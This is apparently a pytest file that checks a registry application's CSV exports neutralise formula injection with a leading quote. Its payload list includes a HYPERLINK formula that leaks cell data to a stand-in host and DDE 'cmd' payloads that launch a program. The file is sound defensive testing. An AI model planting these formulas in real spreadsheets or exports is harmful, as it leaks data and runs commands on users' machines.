"""CSV formula injection: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a
formula by spreadsheets. A steward writes titles and names that end up in the CSV form of the transparency
register (`/reports/flows?format=csv`); every such cell is neutralised with a leading `'` (OWASP's CSV
injection guidance) and every field is quoted. SPARQL's text/csv results are a W3C data format, not
written by this rule (tests/api/test_sparql*.py)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest

from helpers import WORLD_FILE, load_json, record, world_api

WORLD = load_json(WORLD_FILE)
#: what a spreadsheet takes for the start of a formula (the full-width forms some spreadsheets fold to them)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

PAYLOADS = {
    "equals": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full-width-equals": "\uff1d1+1",
    "quote-inside": '=1+1"; "=2+2',
}


def dangerous(cell: str) -> bool:
    """A cell a spreadsheet may evaluate: a formula character first, or after leading whitespace."""
    return cell[:1] in FORMULA or cell.lstrip()[:1] in FORMULA


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_neutralised(text: str) -> list[list[str]]:
    rows = rows_of(text)
    for row in rows:
        for cell in row:
            assert not dangerous(cell), f"a cell a spreadsheet would evaluate: {cell!r}"
    out = io.StringIO()  # every field quoted, quotes inside doubled: written back alike, byte for byte
    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
    assert out.getvalue() == text, text[:300]
    return rows


@pytest.fixture
def wapi() -> Iterator[Any]:
    with world_api() as api:
        yield api


@pytest.mark.parametrize("payload", sorted(PAYLOADS))
def test_the_register_csv_neutralises_formulas_a_steward_wrote(wapi: Any, payload: str) -> None:
    """A moh steward titles its dataset, names its unit and titles a draft agreement with a formula; a
    privacy officer approves the agreement (the register lists active agreements). The CSV holds every one
    of them, each neutralised, and still readable."""
    evil = PAYLOADS[payload]
    steward = wapi.auth("steward", "moh")
    officer = wapi.auth("privacy-officer")
    ds = {**record(WORLD, "datasets", "ohip-claims"), "title": evil}
    r = wapi.client.put("/datasets/ohip-claims", json=ds, headers=steward)
    assert r.status_code == 200, r.text
    unit = wapi.client.get("/organizations/moh-idiu", headers=steward).json()
    unit = {k: v for k, v in unit.items() if v is not None and k not in ("retired", "warnings")}
    r = wapi.client.put("/organizations/moh-idiu", json={**unit, "name": evil}, headers=steward)
    assert r.status_code == 200, r.text
    agreement = {**record(WORLD, "agreements", "dsa-moh-idiu-2024"), "id": "dsa-csv-" + payload, "title": evil,
                 "status": "draft", "valid_until": "2099-12-31"}
    r = wapi.client.post("/agreements", json=agreement, headers=steward)
    assert r.status_code == 201, r.text
    r = wapi.client.put(f"/agreements/dsa-csv-{payload}", json={**agreement, "status": "active"}, headers=officer)
    assert r.status_code == 200, r.text

    r = wapi.client.get("/reports/flows", params={"format": "csv", "on": "2025-06-01"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
    rows = assert_neutralised(r.text)
    header, body = rows[0], rows[1:]
    mine = next(dict(zip(header, row, strict=True)) for row in body if row[0] == f"dsa-csv-{payload}")
    assert mine["title"] == "'" + evil  # neutralised, not mangled
    assert mine["recipient"] == "'" + evil
    assert mine["datasets"].startswith("'" + evil)


def test_every_csv_answer_of_the_app_is_neutralised(wapi: Any) -> None:
    """Each route that answers text/csv (other than SPARQL's results), found from the app's routes by asking
    each parameterless GET route for CSV, after a formula is written into what the answers show."""
    import fastapi.routing

    steward = wapi.auth("steward", "moh")
    r = wapi.client.put("/datasets/ohip-claims", json={**record(WORLD, "datasets", "ohip-claims"), "title": "=1+1"},
                        headers=steward)
    assert r.status_code == 200, r.text
    walk = getattr(fastapi.routing, "iter_route_contexts", None)
    routes = list(walk(wapi.client.app.routes)) if walk else list(wapi.client.app.routes)
    found = 0
    for route in routes:
        path = getattr(route, "path", "")
        if "GET" not in (getattr(route, "methods", None) or ()) or "{" in path or path == "/sparql":
            continue
        r = wapi.lenient.get(path, headers={**wapi.auth(), "Accept": "text/csv"})
        if r.status_code == 200 and r.headers.get("content-type", "").startswith("text/csv"):
            assert_neutralised(r.text)
            found += 1
    assert found >= 1, "no CSV answer found: the walk is broken"


@pytest.mark.parametrize("value", [*PAYLOADS.values(), "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "-1", "@x", "+"])
def test_the_one_csv_writer_neutralises_each_spelling(value: str) -> None:
    """The writer every CSV answer goes through, on what input models would trim (leading tabs, carriage
    returns, spaces), so it holds whatever a record came from (a bulk load, an older version)."""
    from registry.services.reports.csv_answer import table

    text = table(["value", "other"], [[value, "plain"], ["ok", value]])
    rows = assert_neutralised(text)
    assert rows[1] == ["'" + value, "plain"] and rows[2] == ["ok", "'" + value]
    assert table(["a"], [["Plain title"], [None], [3]]) == '"a"\r\n"Plain title"\r\n""\r\n"3"\r\n'
